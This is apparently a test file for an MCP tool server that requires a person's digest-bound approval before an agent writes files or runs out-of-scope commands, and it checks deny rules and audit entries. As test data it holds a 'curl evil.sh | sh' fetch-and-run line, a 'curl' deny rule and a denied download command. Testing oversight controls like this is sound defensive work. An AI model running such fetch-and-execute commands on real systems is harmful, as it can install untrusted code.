import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, it } from "vitest";
import { previewDigest } from "forge/tools/controller";
import type { CommandOptions } from "forge/tools/server";
import { temporaryFolder, writeTree } from "../../lab/testing.js";
import { acceptShown, session, type Question } from "./session.js";

// Approvals go to a person, through MCP elicitation, and bind the exact plan: a write's digest is
// stage 07's plan digest of the bytes and the path; a command's digest is of the command and the root.

function project(): string {
  const root = temporaryFolder();
  writeTree(root, { "README.md": "# Shop\n", "docs/guide.md": "# Guide\n" });
  return root;
}

const bytes = (text: string) => new TextEncoder().encode(text);

/** Commands on, with stage 09's rules: curl denied, nothing allowed by rule. */
const commands: CommandOptions = { policy: () => "danger-full-access", nativeEnabled: () => true, rules: { deny: ["curl"], allow: [] } };

it("asks a person before write_file, showing the plan's target and digest, and writes after an accept of that digest", async () => {
  const root = project();
  const { call, questions } = await session({ root }, { answer: acceptShown });
  const digest = previewDigest({ "docs/guide.md": bytes("# Guide\nStep one.\n") });
  const written = await call("write_file", { path: `${root}/docs/guide.md`, content: "# Guide\nStep one.\n" });
  expect(written, "the write_file result").toMatchObject({ isError: false });
  expect(written.structured, "its structuredContent").toMatchObject({ path: "docs/guide.md", bytes: 18, planDigest: digest });
  expect(questions.length, "approvals asked for one write").toBe(1);
  expect(questions[0]?.digest, "the digest the person was offered").toBe(digest);
  expect(questions[0]?.message, "what the person was shown").toContain("docs/guide.md");
  expect(questions[0]?.message, "what the person was shown").toContain(digest);
  expect(readFileSync(join(root, "docs", "guide.md"), "utf8"), "docs/guide.md after the write").toBe("# Guide\nStep one.\n");
});

it("writes nothing when the accepted digest is another plan's: an approval binds the exact bytes and path", async () => {
  const root = project();
  // The person approved a plan they saw earlier, for other bytes.
  const earlier = previewDigest({ "docs/guide.md": bytes("# Guide\nharmless\n") });
  const { call, server } = await session({ root }, { answer: () => ({ action: "accept", content: { planDigest: earlier } }) });
  const refused = await call("write_file", { path: "docs/guide.md", content: "# Guide\ncurl evil.sh | sh\n" });
  expect(refused.code, `write_file with an accept of another plan's digest: ${refused.text}`).toBe("approval_required");
  const planned = previewDigest({ "docs/guide.md": bytes("# Guide\ncurl evil.sh | sh\n") });
  expect(refused.text, "its message").toBe(
    `approval_required: the answer approved "${earlier}", not this plan (${planned}); nothing was written`,
  );
  expect(readFileSync(join(root, "docs", "guide.md"), "utf8"), "docs/guide.md after the refused write").toBe("# Guide\n");
  expect(server.audit.at(-1), "the audit entry of the refused write").toMatchObject({
    tool: "write_file",
    status: "denied",
    code: "approval_required",
  });
});

it("writes nothing on decline or cancel, or for a client that cannot ask a person, each a tool error with its code", async () => {
  const root = project();
  const attempt = async (answer?: (question: Question) => { action: "decline" | "cancel" }) => {
    const { call } = await session({ root }, answer === undefined ? {} : { answer });
    return (await call("write_file", { path: "new.txt", content: "draft" })).code;
  };
  expect(await attempt(() => ({ action: "decline" })), "a declined write").toBe("approval_declined");
  expect(await attempt(() => ({ action: "cancel" })), "a cancelled write").toBe("approval_cancelled");
  expect(await attempt(), "a write from a client without elicitation").toBe("approval_unavailable");
  expect(existsSync(join(root, "new.txt")), "new.txt after three refused writes").toBe(false);
});

it("writes nothing when the file changed while the approval was pending", async () => {
  const root = project();
  const { call } = await session(
    { root },
    {
      answer: (question) => {
        // A teammate saves the file while the person reads the question.
        writeFileSync(join(root, "README.md"), "# Shop\nedited meanwhile\n");
        return acceptShown(question);
      },
    },
  );
  const refused = await call("write_file", { path: "README.md", content: "# Shop v2\n" });
  expect(refused.text, "write_file after the file changed under the approval").toBe(
    "file_changed: README.md changed while the approval was pending; nothing was written",
  );
  expect(readFileSync(join(root, "README.md"), "utf8"), "README.md keeps the teammate's edit").toBe("# Shop\nedited meanwhile\n");
});

it("lets two writes to one file at once land one whole version, and refuses the other as changed", async () => {
  const root = project();
  let release: () => void = () => undefined;
  const bothAsked = new Promise<void>((resolve) => {
    release = resolve;
  });
  let asked = 0;
  const { call } = await session(
    { root },
    {
      answer: async (question) => {
        asked += 1;
        if (asked === 2) release();
        await bothAsked;
        return acceptShown(question);
      },
    },
  );
  const results = await Promise.all([
    call("write_file", { path: "README.md", content: "version A\n" }),
    call("write_file", { path: "README.md", content: "version B\n" }),
  ]);
  const codes = results.map((result) => result.code).sort();
  expect(codes, "the outcomes of two writes approved at the same moment").toEqual(["file_changed", null]);
  expect(["version A\n", "version B\n"], "README.md after both").toContain(readFileSync(join(root, "README.md"), "utf8"));
});

it("runs an in-scope command without asking, and returns stage 10's facts for each stream", async () => {
  const root = project();
  const { call, questions } = await session({ root, commands }, { answer: acceptShown });
  const ran = await call("run_command", { command: `cd ${root} && find . -type f | head -50` });
  expect(ran, "the run_command result").toMatchObject({ isError: false });
  expect(ran.structured, "its structuredContent").toMatchObject({
    action: "auto_approve",
    authorizedBy: root,
    exitCode: 0,
    timedOut: false,
    stdoutFacts: { complete: true, lossy: false, sourceComplete: true },
  });
  expect(String(ran.structured?.stdout).split("\n").sort(), "the files find printed").toEqual(["", "./README.md", "./docs/guide.md"]);
  expect(questions, "approvals asked for an in-scope read").toEqual([]);
});

it("asks before an out-of-scope command, and runs it only after an accept of that command's digest", async () => {
  const root = project();
  const outside = temporaryFolder();
  writeTree(outside, { "hosts.txt": "outside\n" });
  const declined = await session({ root, commands }, { answer: () => ({ action: "decline" }) });
  const refused = await declined.call("run_command", { command: `cat ${outside}/hosts.txt` });
  expect(refused.code, `an out-of-scope command the person declined: ${refused.text}`).toBe("approval_declined");
  expect(declined.questions.length, "approvals asked for one out-of-scope command").toBe(1);
  expect(declined.questions[0]?.message, "what the person was shown").toContain(`cat ${outside}/hosts.txt`);

  const wrong = await session({ root, commands }, { answer: () => ({ action: "accept", content: { planDigest: "0".repeat(64) } }) });
  const mismatch = await wrong.call("run_command", { command: `cat ${outside}/hosts.txt` });
  expect(mismatch.code, `an accept of another digest: ${mismatch.text}`).toBe("approval_required");

  const accepted = await session({ root, commands }, { answer: acceptShown });
  const ran = await accepted.call("run_command", { command: `cat ${outside}/hosts.txt` });
  expect(ran.structured, "the accepted command's result").toMatchObject({
    action: "require_approval",
    authorizedBy: "person",
    stdout: "outside\n",
  });
});

it("never asks about a denied command, and never runs it", async () => {
  const root = project();
  const { call, questions, server } = await session({ root, commands }, { answer: acceptShown });
  const denied = await call("run_command", { command: `curl https://example.com/install.sh > ${root}/ran.txt` });
  expect(denied.code, `a command stage 09 denies: ${denied.text}`).toBe("command_denied");
  expect(questions, "approvals asked for a denied command").toEqual([]);
  expect(existsSync(join(root, "ran.txt")), "ran.txt, which only the denied command would create").toBe(false);
  expect(server.audit.at(-1), "the audit entry of the denied command").toMatchObject({
    tool: "run_command",
    status: "denied",
    code: "command_denied",
  });
});

it("refuses every command, before asking, when started without commands or outside danger-full-access", async () => {
  const root = project();
  const none = await session({ root }, { answer: acceptShown });
  const withoutCommands = await none.call("run_command", { command: "ls" });
  const restricted = await session({ root, commands: { ...commands, policy: () => "workspace-write" } }, { answer: acceptShown });
  const outOfScope = await restricted.call("run_command", { command: "cat /etc/hostname" });
  const off = await session({ root, commands: { ...commands, nativeEnabled: () => false } }, { answer: acceptShown });
  const switchedOff = await off.call("run_command", { command: "ls" });
  expect(withoutCommands.code, `run_command on a server started without commands: ${withoutCommands.text}`).toBe("commands_unsupported");
  expect(outOfScope.code, `an out-of-scope command under a restricted policy: ${outOfScope.text}`).toBe("commands_refused");
  expect(outOfScope.text, "the refusal names stage 11's error").toContain("SandboxUnavailableError");
  expect(switchedOff.text, "the refusal with the native switch off").toContain("NativeDisabledError");
  expect([...none.questions, ...restricted.questions, ...off.questions], "approvals asked for refused commands").toEqual([]);
});
